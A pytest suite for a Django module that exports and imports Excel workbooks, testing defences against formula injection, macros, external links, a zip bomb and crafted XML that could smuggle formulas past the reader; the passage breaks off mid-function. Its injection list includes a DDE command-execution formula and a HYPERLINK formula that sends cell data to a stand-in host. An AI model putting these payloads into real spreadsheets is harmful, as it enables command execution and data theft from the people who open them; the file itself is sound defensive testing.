import datetime
import enum
import io
import os
import re
import tempfile
import tracemalloc
import zipfile
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font

import core.xlsx
from core.xlsx import (
    DECIMAL_FORMAT,
    XlsxError,
    XlsxSheet,
    XlsxTable,
    column_letter,
    read_xlsx_rows,
    write_xlsx,
)

HEADER = ["站点名称", "姓名", "人数", "金额"]

# ---------------------------------------------------------------------------------------------
# Helpers


def read_back(data: bytes):
    """The written file as Excel would load it (full mode, formulas not evaluated)."""
    return load_workbook(io.BytesIO(data))


def sheet_xml_parts(data: bytes) -> list[bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]


def make_input(
    rows: list[list[object]], *, extra_sheets: dict[str, list[list[object]]] | None = None
) -> bytes:
    """An .xlsx as a clerk would upload it, built with openpyxl's ordinary (not write-only) mode."""
    workbook = Workbook()
    worksheet = workbook.active
    for row in rows:
        worksheet.append(row)
    for title, sheet_rows in (extra_sheets or {}).items():
        extra = workbook.create_sheet(title)
        for row in sheet_rows:
            extra.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rewrite_zip(
    data: bytes, *, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None
) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            target.writestr(info.filename, (replace or {}).get(info.filename, source.read(info)))
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def with_recorded_dimension(data: bytes, ref: str) -> bytes:
    """The same workbook with a different <dimension> claim, as some generators write it."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    sheet, count = re.subn(rb'<dimension ref="[^"]*"', b'<dimension ref="%s"' % ref.encode(), sheet)
    assert count == 1
    return rewrite_zip(data, replace={"xl/worksheets/sheet1.xml": sheet})


def data_rows(count: int) -> list[list[object]]:
    return [HEADER] + [[f"驿站{i}", f"人员{i}", i, Decimal("10.50")] for i in range(count)]


@pytest.fixture(scope="module")
def xlsx_bomb() -> bytes:
    """A real workbook plus a 60 MB run of zeros that compresses to about 60 kB."""
    buffer = io.BytesIO(rewrite_zip(make_input(data_rows(1))))
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("xl/media/padding.bin", "w") as entry,
    ):
        zeros = bytes(1024 * 1024)
        for _ in range(60):
            entry.write(zeros)
    return buffer.getvalue()


# ---------------------------------------------------------------------------------------------
# Writer


INJECTIONS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?d="&A1,"查看详情")',
    "=cmd|' /C calc'!A0",
    "+86 138 0000 0000",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_formula_like_strings_are_written_as_literal_text(text):
    data = write_xlsx([XlsxSheet("导出", ["备注"], [[text]])])

    cell = read_back(data).active["A2"]

    assert cell.data_type == "s"
    assert cell.value == text
    assert cell.quotePrefix  # stays text when a user edits the cell in Excel


def test_formula_like_strings_read_back_as_text_in_read_only_mode():
    data = write_xlsx([XlsxSheet("导出", ["备注"], [[text] for text in INJECTIONS])])

    workbook = load_workbook(io.BytesIO(data), read_only=True)
    cells = [row[0] for row in workbook.active.iter_rows(min_row=2)]
    workbook.close()

    assert [(c.value, c.data_type) for c in cells] == [(t, "s") for t in INJECTIONS]


def test_carriage_returns_become_excel_line_breaks_and_stay_text():
    data = write_xlsx([XlsxSheet("导出", ["备注"], [["\r=1+1"], ["第一行\r\n第二行"]])])

    worksheet = read_back(data).active

    assert (worksheet["A2"].value, worksheet["A2"].data_type) == ("\n=1+1", "s")
    assert worksheet["A3"].value == "第一行\n第二行"


def test_no_cell_in_a_written_file_is_a_formula():
    rows = [
        [text, Decimal("1"), datetime.date(2025, 1, 1), True, None, "#N/A", "#REF!"] for text in INJECTIONS
    ]
    data = write_xlsx(
        [
            XlsxSheet("甲", ["=A1", "+金额", "日期", "是否", "空", "错误", "引用"], rows),
            XlsxSheet("乙", ["名称"], [["=SUM(A1:A9)"]]),
        ]
    )

    workbook = read_back(data)
    types = {cell.data_type for ws in workbook.worksheets for row in ws.iter_rows() for cell in row}

    assert "f" not in types
    assert "e" not in types  # "#N/A" is text, not an error value
    assert all(b"<f>" not in xml and b"<f " not in xml for xml in sheet_xml_parts(data))


def test_decimals_are_numbers_with_the_default_or_given_number_format():
    data = write_xlsx(
        [
            XlsxSheet(
                "补助",
                ["金额", "得分", "人数"],
                [[Decimal("12345.6"), Decimal("87.5"), 12]],
                number_formats={1: "0.0"},
            )
        ]
    )

    amount, score, count = read_back(data).active[2]

    assert (amount.value, amount.data_type, amount.number_format) == (12345.6, "n", DECIMAL_FORMAT)
    assert (score.value, score.number_format) == (87.5, "0.0")
    assert (count.value, count.number_format) == (12, "General")


def test_dates_are_dates_and_aware_datetimes_are_shown_in_local_time():
    moment = datetime.datetime(2025, 3, 31, 18, 30, tzinfo=datetime.UTC)  # 02:30 on 1 April in China
    data = write_xlsx([XlsxSheet("日期", ["认定日期", "提交时间"], [[datetime.date(2024, 6, 1), moment]])])

    day, time = read_back(data).active[2]

    # Excel dates carry no time zone, so openpyxl reads them back naive.
    assert (day.value.date(), day.is_date, day.number_format) == (
        datetime.date(2024, 6, 1),
        True,
        "yyyy-mm-dd",
    )
    assert (time.value.timetuple()[:5], time.number_format) == ((2025, 4, 1, 2, 30), "yyyy-mm-dd hh:mm")


def test_booleans_are_shi_or_fou_and_none_is_an_empty_cell():
    data = write_xlsx([XlsxSheet("设施", ["电脑", "会议室", "备注"], [[True, False, None]])])

    row = read_back(data).active[2]

    assert [cell.value for cell in row] == ["是", "否", None]


def test_str_based_enums_are_written_as_their_value():
    class Kind(str, enum.Enum):  # noqa: UP042 -- str() of this kind of member is "Kind.GIG_STATION"
        GIG_STATION = "零工驿站"

    data = write_xlsx([XlsxSheet("类型", ["类型"], [[Kind.GIG_STATION]])])

    assert read_back(data).active["A2"].value == "零工驿站"


def test_header_is_bold_panes_are_frozen_below_it_and_widths_are_set():
    data = write_xlsx([XlsxSheet("名单", HEADER, [["驿站", "张三", 1, Decimal(1)]], column_widths=[30, 12])])

    worksheet = read_back(data).active

    assert [cell.value for cell in worksheet[1]] == HEADER
    assert all(cell.font.b for cell in worksheet[1])
    assert not worksheet["A2"].font.b
    assert worksheet.freeze_panes == "A2"
    assert (worksheet.column_dimensions["A"].width, worksheet.column_dimensions["B"].width) == (30, 12)


def test_text_loses_characters_xml_cannot_carry_and_is_cut_at_excels_limit():
    data = write_xlsx([XlsxSheet("文本", ["内容"], [["站\x00点\x1b名"], ["长" * 40_000]])])

    worksheet = read_back(data).active

    assert worksheet["A2"].value == "站点名"
    assert len(worksheet["A3"].value) == 32_767


def test_sheet_titles_are_made_acceptable_to_excel():
    data = write_xlsx(
        [
            XlsxSheet("2024/2025:结果[汇总]", ["a"], []),
            XlsxSheet("很长的工作表名称" * 5, ["a"], []),
            XlsxSheet("", ["a"], []),
        ]
    )

    titles = read_back(data).sheetnames

    assert titles[0] == "2024_2025_结果_汇总_"
    assert titles[1] == ("很长的工作表名称" * 5)[:31]
    assert titles[2] == "Sheet"


def test_writes_every_sheet_in_order():
    data = write_xlsx([XlsxSheet("甲", ["a"], [[1]]), XlsxSheet("乙", ["b"], [[2]])])

    workbook = read_back(data)

    assert workbook.sheetnames == ["甲", "乙"]
    assert workbook["乙"]["A2"].value == 2


@pytest.mark.parametrize("value", [Decimal("NaN"), Decimal("Infinity"), float("nan"), float("-inf")])
def test_refuses_numbers_excel_cannot_hold(value):
    with pytest.raises(ValueError, match="Excel cannot hold"):
        write_xlsx([XlsxSheet("s", ["x"], [[value]])])


def test_refuses_to_write_a_workbook_without_sheets():
    with pytest.raises(ValueError, match="at least one sheet"):
        write_xlsx([])


def _peak_memory_writing(row_count: int) -> int:
    def rows():
        for i in range(row_count):
            yield [f"驿站{i}", f"=备注{i}", Decimal(i), datetime.date(2025, 1, 1), i % 2 == 0]

    tracemalloc.start()
    try:
        write_xlsx([XlsxSheet("大表", ["名称", "备注", "金额", "日期", "是否"], rows())])
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_rows_are_streamed_so_memory_does_not_grow_with_the_row_count():
    # Merely holding 3,000 more rows of values costs about 1.4 MB, their cells far more; streaming
    # costs only the extra compressed output (under 100 kB).
    small = _peak_memory_writing(1_000)
    large = _peak_memory_writing(4_000)

    assert large - small < 512 * 1024


def _openpyxl_temp_files() -> set[str]:
    return {name for name in os.listdir(tempfile.gettempdir()) if name.startswith("openpyxl.")}


def test_a_row_source_failing_halfway_leaves_no_temporary_files_behind():
    def rows():
        yield ["甲驿站"]
        raise RuntimeError("database went away")

    before = _openpyxl_temp_files()

    with pytest.raises(RuntimeError, match="database went away"):
        write_xlsx([XlsxSheet("名单", ["名称"], rows())])
    assert _openpyxl_temp_files() <= before


# ---------------------------------------------------------------------------------------------
# Reader: accepted files


def test_returns_rows_with_excel_row_numbers_and_skips_empty_rows():
    data = make_input(
        [
            HEADER,
            ["甲驿站", "张三", 3, 10.5],
            [None, None, None, None],
            ["乙驿站", "李四", 4, None],
            ["  ", None],
            ["丙驿站", None, None, 7],
        ]
    )

    table = read_xlsx_rows(data, max_rows=10, max_bytes=1024 * 1024, expected_header=HEADER)

    assert table == XlsxTable(
        header=HEADER,
        rows=[
            (2, {"站点名称": "甲驿站", "姓名": "张三", "人数": 3, "金额": 10.5}),
            (4, {"站点名称": "乙驿站", "姓名": "李四", "人数": 4, "金额": None}),
            (6, {"站点名称": "丙驿站", "姓名": None, "人数": None, "金额": 7}),
        ],
    )


def test_reads_back_what_the_writer_wrote():
    data = write_xlsx(
        [XlsxSheet("名单", HEADER, [["驿站", "=张三", 2, Decimal("8.25")], [None], ["乙", "李四"]])]
    )

    table = read_xlsx_rows(data, max_rows=5, max_bytes=1024 * 1024, expected_header=HEADER)

    assert table.rows == [
        (2, {"站点名称": "驿站", "姓名": "=张三", "人数": 2, "金额": 8.25}),
        (4, {"站点名称": "乙", "姓名": "李四", "人数": None, "金额": None}),
    ]


def test_takes_the_header_from_the_first_row_when_none_is_expected():
    data = make_input([[" 姓名 ", "人数", None], ["张三", 1]])

    table = read_xlsx_rows(data, max_rows=5, max_bytes=1024 * 1024)

    assert table.header == ["姓名", "人数"]
    assert table.rows == [(2, {"姓名": "张三", "人数": 1})]


def test_reads_the_named_sheet():
    data = make_input([["说明"], ["请填写第二页"]], extra_sheets={"明细": [["姓名"], ["王五"]]})

    table = read_xlsx_rows(data, max_rows=5, max_bytes=1024 * 1024, sheet_name="明细")

    assert table.rows == [(2, {"姓名": "王五"})]


def test_reads_an_uploaded_file_and_rewinds_it():
    uploaded = SimpleUploadedFile("名单.xlsx", make_input(data_rows(2)))

    table = read_xlsx_rows(uploaded, max_rows=5, max_bytes=1024 * 1024, expected_header=HEADER)

    assert [number for number, _ in table.rows] == [2, 3]
    assert uploaded.tell() == 0


def test_reads_rows_below_a_recorded_dimension_that_is_too_small():
    # openpyxl would stop at the recorded size and silently drop the rows below it.
    data = with_recorded_dimension(make_input(data_rows(4)), "A1:D2")

    table = read_xlsx_rows(data, max_rows=10, max_bytes=1024 * 1024, expected_header=HEADER)

    assert [number for number, _ in table.rows] == [2, 3, 4, 5]


def test_tolerates_blank_formatted_rows_below_the_last_allowed_row():
    workbook = Workbook()
    worksheet = workbook.active
    for row in data_rows(2):
        worksheet.append(row)
    worksheet.row_dimensions[40].height = 30  # an empty <row> that does not count in the dimension
    buffer = io.BytesIO()
    workbook.save(buffer)

    table = read_xlsx_rows(buffer.getvalue(), max_rows=5, max_bytes=1024 * 1024, expected_header=HEADER)

    assert len(table.rows) == 2


# ---------------------------------------------------------------------------------------------
# Reader: refused files


def test_refuses_a_formula_cell_naming_its_row_and_column():
    data = make_input([HEADER, ["甲驿站", "张三", 3, 1], ["乙驿站", "李四", "=C2+1", 2]])

    with pytest.raises(XlsxError, match=r"有公式：第 3 行 C 列。系统不接受公式.*选择性粘贴"):
        read_xlsx_rows(data, max_rows=10, max_bytes=1024 * 1024, expected_header=HEADER)


def test_lists_every_formula_cell_it_found():
    data = make_input([HEADER, ["=A9", "张三", 3, "=SUM(C2:C2)"]])

    with pytest.raises(XlsxError, match="第 2 行 A 列、第 2 行 D 列"):
        read_xlsx_rows(data, max_rows=10, max_bytes=1024 * 1024, expected_header=HEADER)


def test_refuses_a_wrong_header_naming_each_column_by_its_letter():
    data = make_input([["站点名称", "名字", "人数"], ["甲", "张三", 1]])

    with pytest.raises(XlsxError) as excinfo:
        read_xlsx_rows(data, max_rows=10, max_bytes=1024 * 1024, expected_header=HEADER)

    message = str(excinfo.value)
    assert "表头（第 1 行）与模板不一致" in message
    assert "B 列应为“姓名”，实际是“名字”" in message
    assert "D 列缺少“金额”" in message
    assert "A 列" not in message


def test_refuses_a_header_with_an_extra_column():
    data = make_input([[*HEADER, "备注"], ["甲", "张三", 1, 2, "无"]])

    with pytest.raises(XlsxError, match="E 列“备注”不在模板中"):
        read_xlsx_rows(data, max_rows=10, max_bytes=1024 * 1024, expected_header=HEADER)


def test_refuses_data_in_a_column_without_a_header():
    data = make_input([["姓名", "人数"], ["张三", 1, "多出来的"]])

    with pytest.raises(XlsxError, match="第 2 行 C 列有内容，但这一列没有表头"):
        read_xlsx_rows(data, max_rows=10, max_bytes=1024 * 1024)


@pytest.mark.parametrize(
    ("header", "message"),
    [
        (["姓名", None, "人数"], "B 列是空的"),
        (["姓名", "人数", "姓名"], "A 列和 C 列都叫“姓名”"),
        ([None, None], "第 1 行是空的"),
    ],
)
def test_refuses_a_header_row_that_cannot_name_the_columns(header, message):
    with pytest.raises(XlsxError, match=message):
        read_xlsx_rows(make_input([header, ["张三", 1, 2]]), max_rows=10, max_bytes=1024 * 1024)


def test_refuses_too_many_rows_from_the_recorded_dimension_before_reading_them():
    data = make_input(data_rows(8))

    with pytest.raises(XlsxError, match=r"最多只能有 5 行数据\（第 2 行到第 6 行\），但表格范围到了第 9 行"):
        read_xlsx_rows(data, max_rows=5, max_bytes=1024 * 1024, expected_header=HEADER)


def test_refuses_too_many_rows_while_reading_when_the_dimension_understates_them():
    data = with_recorded_dimension(make_input(data_rows(8)), "A1:D2")

    with pytest.raises(XlsxError, match="但第 7 行还有内容"):
        read_xlsx_rows(data, max_rows=5, max_bytes=1024 * 1024, expected_header=HEADER)


def test_stops_reading_a_long_run_of_blank_rows_below_the_last_allowed_row(monkeypatch):
    monkeypatch.setattr(core.xlsx, "EMPTY_ROWS_AFTER_CAP", 3)
    workbook = Workbook()
    worksheet = workbook.active
    for row in data_rows(2):
        worksheet.append(row)
    for row_number in range(4, 200):
        worksheet.cell(row=row_number, column=1).font = Font(bold=True)  # formatted but empty
    buffer = io.BytesIO()
    workbook.save(buffer)
    data = with_recorded_dimension(buffer.getvalue(), "A1:D3")

    with pytest.raises(XlsxError, match=r"表格下方有大量空行.*请整行删除"):
        read_xlsx_rows(data, max_rows=5, max_bytes=1024 * 1024, expected_header=HEADER)


def test_refuses_a_file_that_is_not_a_zip():
    csv = "站点名称，姓名\n甲驿站，张三\n".encode()

    with pytest.raises(XlsxError, match=r"上传的文件不是 Excel\(\.xlsx\)文件"):
        read_xlsx_rows(csv, max_rows=10, max_bytes=1024 * 1024)


def test_refuses_an_old_xls_file_with_advice():
    with pytest.raises(XlsxError, match=r"是旧版 Excel\(\.xls\).*另存为 \.xlsx"):
        read_xlsx_rows(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), max_rows=10, max_bytes=1024 * 1024)


def test_refuses_a_workbook_with_macros():
    data = rewrite_zip(make_input(data_rows(1)), add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(508)})

    with pytest.raises(XlsxError, match=r"包含宏\（VBA 代码\）"):
        read_xlsx_rows(SimpleUploadedFile("名单.xlsx", data), max_rows=10, max_bytes=1024 * 1024)


def test_refuses_a_zip_bomb_before_openpyxl_opens_it(xlsx_bomb, monkeypatch):
    def fail(*args, **kwargs):
        raise AssertionError("openpyxl must not see a zip bomb")

    monkeypatch.setattr(core.xlsx, "load_workbook", fail)

    with pytest.raises(XlsxError, match="解压后有 60 MB，超过 50 MB 上限"):
        read_xlsx_rows(xlsx_bomb, max_rows=10, max_bytes=1024 * 1024)


def test_refuses_a_file_over_max_bytes_even_when_its_declared_size_is_small():
    uploaded = SimpleUploadedFile("名单.xlsx", make_input(data_rows(1)))
    uploaded.size = 10

    with pytest.raises(XlsxError, match="超过 1 KB 上限"):
        read_xlsx_rows(uploaded, max_rows=10, max_bytes=1024)


def test_refuses_an_empty_file():
    with pytest.raises(XlsxError, match="是空的"):
        read_xlsx_rows(b"", max_rows=10, max_bytes=1024)


def test_refuses_a_word_document():
    docx = io.BytesIO()
    with zipfile.ZipFile(docx, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        )
        archive.writestr("word/document.xml", "<document/>")

    with pytest.raises(XlsxError, match="是 Word 文档，不是 Excel 表格"):
        read_xlsx_rows(docx.getvalue(), max_rows=10, max_bytes=1024 * 1024)


def test_refuses_a_damaged_workbook_with_a_message_instead_of_a_crash():
    data = rewrite_zip(make_input(data_rows(1)), replace={"xl/workbook.xml": b"<not really xml"})

    with pytest.raises(XlsxError, match=r"已损坏或不是标准的 \.xlsx 文件"):
        read_xlsx_rows(data, max_rows=10, max_bytes=1024 * 1024)


def test_refuses_a_missing_sheet_naming_the_sheets_there_are():
    data = make_input([["姓名"]], extra_sheets={"明细": [["姓名"]]})

    with pytest.raises(XlsxError, match=re.escape("找不到名为“汇总”的工作表（现有：“Sheet”、“明细”）")):
        read_xlsx_rows(data, max_rows=10, max_bytes=1024 * 1024, sheet_name="汇总")


def test_column_letter_counts_from_zero():
    assert [column_letter(i) for i in (0, 1, 25, 26, 701, 702)] == ["A", "B", "Z", "AA", "ZZ", "AAA"]
    with pytest.raises(ValueError, match="0 or more"):
        column_letter(-1)


# ---------------------------------------------------------------------------------------------
# Reader: the fast path (python-calamine after a scan of the sheet's XML) and its guards


def _no_openpyxl(monkeypatch) -> None:
    def fail(*args, **kwargs):
        raise AssertionError("a plain sheet is read without openpyxl")

    monkeypatch.setattr(core.xlsx, "load_workbook", fail)


def test_a_plain_sheet_is_read_without_openpyxl_with_the_types_openpyxl_gives(monkeypatch):
    _no_openpyxl(monkeypatch)
    data = make_input(
        [
            ["身份证号码", "手机号码", "人数", "金额", "上岗日期", "提交时间", "是否"],
            ["42092319900101001X", "13800131234", 3, 10.5, datetime.date(2024, 3, 1), None, True],
            [None, None, None, None, None, datetime.datetime(2024, 3, 1, 8, 30), False],  # noqa: DTZ001
        ]
    )

    table = read_xlsx_rows(data, max_rows=10, max_bytes=1024 * 1024)

    (_, first), (_, second) = table.rows
    assert list(first.values()) == [
        "42092319900101001X",
        "13800131234",
        3,
        10.5,
        datetime.datetime(2024, 3, 1),  # noqa: DTZ001 -- Excel's dates are naive
        None,
        True,
    ]
    assert type(first["人数"]) is int and type(first["手机号码"]) is str
    assert second["提交时间"] == datetime.datetime(2024, 3, 1, 8, 30) and second["是否"] is False  # noqa: DTZ001


def test_a_plain_sheet_keeps_every_check_of_rows_and_columns(monkeypatch):
    _no_openpyxl(monkeypatch)
    with pytest.raises(XlsxError, match="第 2 行 C 列有内容，但这一列没有表头"):
        read_xlsx_rows(
            make_input([["姓名", "人数"], ["张三", 1, "多出来的"]]), max_rows=10, max_bytes=1024 * 1024
        )
    data = with_recorded_dimension(make_input(data_rows(8)), "A1:D2")
    with pytest.raises(XlsxError, match="但第 7 行还有内容"):
        read_xlsx_rows(data, max_rows=5, max_bytes=1024 * 1024, expected_header=HEADER)


def test_a_far_away_cell_is_refused_without_reading_a_grid_of_its_extent():
    # A dense reader holding A1:XFD60000 would need billions of cells (python-calamine aborts the
    # process); the scan sends such a sheet to the streaming reader, which names the cell.
    workbook = Workbook()
    worksheet = workbook.active
    worksheet.append(["姓名"])
    worksheet.append(["张三"])
    worksheet.cell(row=60_000, column=16_384, value="远处")
    buffer = io.BytesIO()
    workbook.save(buffer)

    with pytest.raises(XlsxError, match="第 60000 行 XFD 列有内容，但这一列没有表头"):
        read_xlsx_rows(buffer.getvalue(), max_rows=60_000, max_bytes=1024 * 1024)


def _prefixed(data: bytes) -> bytes:
    """The same workbook with the sheet's tags written "<x:c ...>", as some generators do."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    sheet = sheet.replace(
        b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"',
        b'xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"',
    )
    sheet = re.sub(rb"<(/?)([A-Za-z])", rb"<\1x:\2", sheet)
    return rewrite_zip(data, replace={"xl/worksheets/sheet1.xml": sheet})


def test_finds_a_formula_whatever_prefix_the_sheet_gives_its_tags():
    data = _prefixed(make_input([HEADER, ["甲驿站", "张三", "=1+2", 1]]))

    with pytest.raises(XlsxError, match="有公式：第 2 行 C 列"):
        read_xlsx_rows(data, max_rows=10, max_bytes=1024 * 1024, expected_header=HEADER)


def test_reads_a_plain_sheet_whose_tags_carry_a_prefix():
    data = _prefixed(make_input(data_rows(2)))

    table = read_xlsx_rows(data, max_rows=10, max_bytes=1024 * 1024, expected_header=HEADER)

    assert [row["站点名称"] for _, row in table.rows] == ["驿站0", "驿站1"]


def test_refuses_a_workbook_linked_to_another_workbook():
    data = rewrite_zip(
        make_input(data_rows(1)),
        add={
            "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
        },
    )

    with pytest.raises(XlsxError, match=r"引用了其他工作簿的数据（外部链接）.*断开链接"):
        read_xlsx_rows(data, max_rows=10, max_bytes=1024 * 1024, expected_header=HEADER)


# ---------------------------------------------------------------------------------------------
# Writer: downloads and sheet names


def test_two_sheets_of_the_same_title_get_distinct_names():
    data = write_xlsx([XlsxSheet("名单", ["a"], [[1]]), XlsxSheet("名单", ["b"], [[2]])])

    assert read_back(data).sheetnames == ["名单", "名单1"]


def test_a_download_is_sent_from_a_temporary_file_not_from_bytes_in_memory():
    response = core.xlsx.xlsx_response([XlsxSheet("名单", ["姓名"], [["张三"]])], "名单.xlsx")
    file = response.file_to_stream
    try:
        assert isinstance(file.fileno(), int)  # an operating-system file, deleted once closed
        workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    finally:
        file.close()

    assert workbook.active["A2"].value == "张三"
    assert response["Content-Type"] == core.xlsx.XLSX_CONTENT_TYPE
    assert "attachment" in response["Content-Disposition"]


def test_empty_text_is_an_empty_cell():
    data = write_xlsx([XlsxSheet("名单", ["a", "b"], [["", "x"]])])

    assert [cell.value for cell in read_back(data).active[2]] == [None, "x"]


# ---------------------------------------------------------------------------------------------
# Reader: files crafted so the scan and python-calamine would see different cells


def _sheet_part(data: bytes, name: str = "xl/worksheets/sheet1.xml") -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def _formula_with_cached_value() -> tuple[bytes, bytes]:
    """A workbook whose B3 is =1+1 with its result 2 saved beside it, as Excel saves formulas."""
    data = make_input([["姓名", "人数"], ["张三", 1], ["李四", "=1+1"]])
    sheet = _sheet_part(data)
    assert sheet.count(b"<f>1+1</f><v />") == 1
    return data, sheet.replace(b"<f>1+1</f><v />", b"<f>1+1</f><v>2</v>")


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b'<row r="3">', b'<!-- </sheetData> --><row r="3">'),
        (b'<row r="3">', b'<?x </sheetData>?><row r="3">'),
        ("<t>张三</t>".encode(), "<t><![CDATA[张三</sheetData>]]></t>".encode()),
    ],
    ids=["comment", "processing-instruction", "cdata"],
)
def test_a_formula_behind_a_false_end_of_the_data_is_still_refused(old, new):
    data, sheet = _formula_with_cached_value()
    assert sheet.count(old) == 1
    crafted = rewrite_zip(data, replace={"xl/worksheets/sheet1.xml": sheet.replace(old, new)})

    with pytest.raises(XlsxError, match="有公式：第 3 行 B 列"):
        read_xlsx_rows(crafted, max_rows=10, max_bytes=1024 * 1024)


def test_a_formula_after_an_end_of_the_data_written_inside_an_attribute_is_refused():
    # python-calamine reads "</sheetData>" inside an attribute value as text and goes on to row 3;
    # openpyxl's parser refuses the "<" there, so the file cannot pass as plain.
    data, sheet = _formula_with_cached_value()
    crafted_sheet = sheet.replace(b'<row r="3">', b'<row r="2" x="</sheetData>"></row><row r="3">')
    crafted = rewrite_zip(data, replace={"xl/worksheets/sheet1.xml": crafted_sheet})

    with pytest.raises(XlsxError, match=r"已损坏或不是标准的 \.xlsx 文件"):
        read_xlsx_rows(crafted, max_rows=10, max_bytes=1024 * 1024)


def test_a_far_away_cell_behind_a_comment_is_not_given_to_the_dense_reader(monkeypatch):
    def fail(*args, **kwargs):
        raise AssertionError("calamine would hold a grid up to the far cell")

    monkeypatch.setattr(core.xlsx, "CalamineWorkbook", fail)
    workbook = Workbook()
    worksheet = workbook.active
    worksheet.append(["姓名"])
    worksheet.append(["张三"])
    worksheet.cell(row=60_000, column=16_384, value="远处")
    buffer = io.BytesIO()
    workbook.save(buffer)
    sheet = _sheet_part(buffer.getvalue())
    crafted_sheet = sheet.replace(b'<row r="60000">', b'<!-- </sheetData> --><row r="60000">')
    assert crafted_sheet != sheet
    crafted = rewrite_zip(buffer.getvalue(), replace={"xl/worksheets/sheet1.xml": crafted_sheet})

    with pytest.raises(XlsxError, match="第 60000 行 XFD 列有内容，但这一列没有表头"):
        read_xlsx_rows(crafted, max_rows=60_000, max_bytes=1024 * 1024)


def test_reads_a_plain_sheet_that_starts_with_an_xml_declaration(monkeypatch):
    _no_openpyxl(monkeypatch)
    data = write_xlsx([XlsxSheet("名单", HEADER, [["甲驿站", "张三", 3, 1]])])
    assert _sheet_part(data).startswith(b"<?xml ")

    table = read_xlsx_rows(data, max_rows=10, max_bytes=1024 * 1024, expected_header=HEADER)

    assert [row["姓名"] for _, row in table.rows] == ["张三"]


def _with_clean_decoy(
    data: bytes, sheet: bytes, workbook_sheet: bytes, *, decoy_target: bytes, after_sheets: bytes = b""
) -> bytes:
    """The workbook with its formula sheet, plus a clean copy as another part that workbook.xml's
    <sheet> also points at, in a way openpyxl does not follow."""
    workbook = _sheet_part(data, "xl/workbook.xml")
    rels = _sheet_part(data, "xl/_rels/workbook.xml.rels")
    listed = b'<sheet name="Sheet" sheetId="1" state="visible" r:id="rId1" />'
    assert workbook.count(listed) == 1
    decoy = (
        b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
        b'Target="%s" Id="rId9" /></Relationships>' % decoy_target
    )
    return rewrite_zip(
        data,
        replace={
            "xl/worksheets/sheet1.xml": sheet,
            "xl/workbook.xml": workbook.replace(listed, workbook_sheet).replace(
                b"</sheets>", b"</sheets>" + after_sheets
            ),
            "xl/_rels/workbook.xml.rels": rels.replace(b"</Relationships>", decoy),
        },
        add={"xl/worksheets/clean.xml": sheet.replace(b"<f>1+1</f>", b"")},
    )


def test_a_sheet_is_scanned_in_the_part_its_r_id_names_not_another_id_attribute():
    data, sheet = _formula_with_cached_value()
    crafted = _with_clean_decoy(
        data,
        sheet,
        b'<sheet name="Sheet" sheetId="1" id="rId9" r:id="rId1" />',
        decoy_target=b"/xl/worksheets/clean.xml",
    )

    with pytest.raises(XlsxError, match="有公式：第 3 行 B 列"):
        read_xlsx_rows(crafted, max_rows=10, max_bytes=1024 * 1024)


def test_a_sheet_element_outside_the_list_of_sheets_is_not_read():
    data, sheet = _formula_with_cached_value()
    crafted = _with_clean_decoy(
        data,
        sheet,
        b'<sheet name="Sheet" sheetId="1" state="visible" r:id="rId1" />',
        decoy_target=b"/xl/worksheets/clean.xml",
        after_sheets='<extLst><ext uri="x"><sheet name="隐藏" sheetId="9" r:id="rId9" /></ext></extLst>'.encode(),
    )

    with pytest.raises(XlsxError, match="找不到名为“隐藏”的工作表（现有：“Sheet”）"):
        read_xlsx_rows(crafted, max_rows=10, max_bytes=1024 * 1024, sheet_name="隐藏")


def test_a_sheet_part_named_with_dot_segments_is_not_read_from_a_part_the_scan_did_not_see():
    # The relationship names "worksheets/../worksheets/sheet1.xml": openpyxl (and the scan)
    # resolve it to xl/worksheets/sheet1.xml, where B3 holds 3; calamine looks up a zip member
    # of exactly that name, which holds B3 as =1+1 with its result 2.
    data, sheet = _formula_with_cached_value()
    rels = _sheet_part(data, "xl/_rels/workbook.xml.rels")
    assert rels.count(b'Target="/xl/worksheets/sheet1.xml"') == 1
    crafted = rewrite_zip(
        data,
        replace={
            "xl/worksheets/sheet1.xml": sheet.replace(b"<f>1+1</f><v>2</v>", b"<v>3</v>"),
            "xl/_rels/workbook.xml.rels": rels.replace(
                b'Target="/xl/worksheets/sheet1.xml"', b'Target="worksheets/../worksheets/sheet1.xml"'
            ),
        },
        add={"xl/worksheets/../worksheets/sheet1.xml": sheet},
    )

    table = read_xlsx_rows(crafted, max_rows=10, max_bytes=1024 * 1024)

    assert [row["人数"] for _, row in table.rows] == [1, 3]


def _with_oversized_relationships(data: bytes) -> bytes:
    """The workbook with its relationships part padded past what the reader parses (stored, so
    the padding is not a zip bomb)."""
    rels = _sheet_part(data, "xl/_rels/workbook.xml.rels")
